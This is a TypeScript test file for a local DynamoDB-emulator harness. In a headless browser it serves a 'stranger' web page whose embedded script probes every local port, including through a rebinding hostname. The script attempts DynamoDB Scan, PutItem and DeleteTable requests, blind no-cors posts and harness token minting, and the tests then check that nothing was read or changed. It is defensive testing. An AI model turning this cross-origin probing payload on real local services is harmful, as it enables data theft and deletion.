import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type Announcement, descendants, type RunningCommand, startServing } from "../end-to-end/support/command.ts";
import { listeningPorts } from "../support/listening-ports.ts";
import { findChromium, type OpenPage, openPage } from "./chromium.ts";

const SECRET = "a todo that is nobody else's";
const chromium = findChromium();
const missing = process.platform !== "linux" ? "not on Linux" : chromium === undefined ? "no Chromium installed" : "";

/** What the page saw: of each request that it could read, the answer. */
interface Report {
  /** Ports that answered anything at all, readable or not. */
  readonly answering: readonly number[];
  readonly read: readonly { readonly url: string; readonly status: number; readonly text: string }[];
  readonly tried: number;
}

/** Runs in the page: goes through ports as a stranger would, reads what it may, and sends what it may not. */
const ATTACK = `async (ports, table) => {
  const read = []; const answering = new Set(); let tried = 0;
  const post = (target, body) => ({ method: "POST", headers: { "content-type": "application/x-amz-json-1.0", "x-amz-target": target,
    authorization: "AWS4-HMAC-SHA256 Credential=local/20200101/eu-west-1/dynamodb/aws4_request, SignedHeaders=host, Signature=local",
    "x-amz-date": "20200101T000000Z" }, body: JSON.stringify(body) });
  const blind = (body) => ({ method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body });
  const scan = "DynamoDB_20120810.";
  const attempts = [
    ["/", post(scan + "Scan", { TableName: table })],
    ["/", post(scan + "PutItem", { TableName: table, Item: { userId: { S: "x" }, todoId: { S: "x" } } })],
    ["/", post(scan + "DeleteTable", { TableName: table })],
    ["/", blind(JSON.stringify({ TableName: table }))],
    ["/?Action=DeleteTable", blind("TableName=" + table)],
    ["/todos", {}],
    ["/_harness/outbox", {}],
    ["/_harness/journal", {}],
    ["/_harness/tokens", { method: "POST", body: "{}" }],
    ["/_harness/tokens", blind("{}")],
  ];
  const one = async (host, port) => {
    for (const [path, options] of attempts) {
      tried += 1;
      const url = "http://" + host + ":" + port + path;
      try {
        const response = await fetch(url, { ...options, signal: AbortSignal.timeout(5000) });
        answering.add(port);
        if (response.type !== "opaque") read.push({ url, status: response.status, text: await response.text() });
      } catch {
        try {
          await fetch(url, { mode: "no-cors", signal: AbortSignal.timeout(5000) });
          answering.add(port);
        } catch {}
      }
    }
  };
  for (const host of ["127.0.0.1", "localhost", "[::1]", "127.0.0.2", "rebound.example"])
    await Promise.all(ports.map((port) => one(host, port)));
  await fetch("/report", { method: "POST", body: JSON.stringify({ answering: [...answering], read, tried }) });
}`;

interface Stranger {
  readonly url: string;
  readonly report: Promise<Report>;
  close(): void;
}

/** A web site of somebody else's. */
async function stranger(ports: readonly number[], table: string): Promise<Stranger> {
  const arrived = Promise.withResolvers<Report>();
  const page = `<!doctype html><title>A page</title><script>(${ATTACK})(${JSON.stringify(ports)}, ${JSON.stringify(table)})</script>`;
  const server: Server = createServer(async (request, response) => {
    if (request.url !== "/report") return response.writeHead(200, { "content-type": "text/html" }).end(page);
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk as Buffer);
    arrived.resolve(JSON.parse(Buffer.concat(chunks).toString()) as Report);
    return response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://stranger.example:${port}/`,
    report: arrived.promise,
    close: () => void server.closeAllConnections(),
  };
}

describe.skipIf(missing !== "").each(["dynoxide", "dynalite"])(
  `a stranger's page and a harness on %s${missing && ` (${missing})`}`,
  (engine) => {
    let command: RunningCommand & { readonly ready: Announcement };
    let site: Stranger;
    let page: OpenPage;
    let token: string;
    let ports: readonly number[];
    let report: Report;
    let before: string;

    const todos = async (): Promise<string> => {
      const headers = { authorization: `Bearer ${token}` };
      return (await fetch(`${command.ready.apiUrl}/todos`, { headers })).text();
    };

    beforeAll(async () => {
      command = await startServing(["--engine", engine, "--no-watch"]);
      const { awsEndpointUrl, apiUrl, tableName } = command.ready;
      const minted = await fetch(`${awsEndpointUrl}/_harness/tokens`, { method: "POST", body: '{"username":"ana"}' });
      token = ((await minted.json()) as { token: string }).token;
      const headers = { authorization: `Bearer ${token}` };
      await fetch(`${apiUrl}/todos`, { method: "POST", headers, body: JSON.stringify({ title: SECRET }) });
      before = await todos();
      ports = [...new Set(listeningPorts([command.pid, ...descendants(command.pid)]).map(({ port }) => port))];
      site = await stranger(ports, String(tableName));
      const rules = "MAP *.example 127.0.0.1";
      page = await openPage(chromium ?? "", site.url, rules);
      report = await site.report;
    });
    afterAll(async () => {
      await page?.close();
      site?.close();
      await command?.stop("SIGTERM");
    });

    test("it looked at every port of every process, and saw the two that are announced", () => {
      const announced = [command.ready.apiUrl, command.ready.awsEndpointUrl].map((url) => Number(new URL(url).port));
      expect(report.tried).toBe(5 * 10 * ports.length);
      expect(report.answering.toSorted()).toEqual(announced.toSorted());
    });

    test("it reads nothing", () => {
      const succeeded = report.read.filter(({ status }) => status < 400);
      expect(succeeded).toEqual([]);
      expect(JSON.stringify(report.read)).not.toContain(SECRET);
    });

    test("it writes nothing", async () => {
      expect(before).toContain(SECRET);
      expect(await todos()).toBe(before);
      const outbox = await fetch(`${command.ready.awsEndpointUrl}/_harness/outbox`);
      expect(await outbox.json()).toEqual({ messages: [] });
    });
  },
);
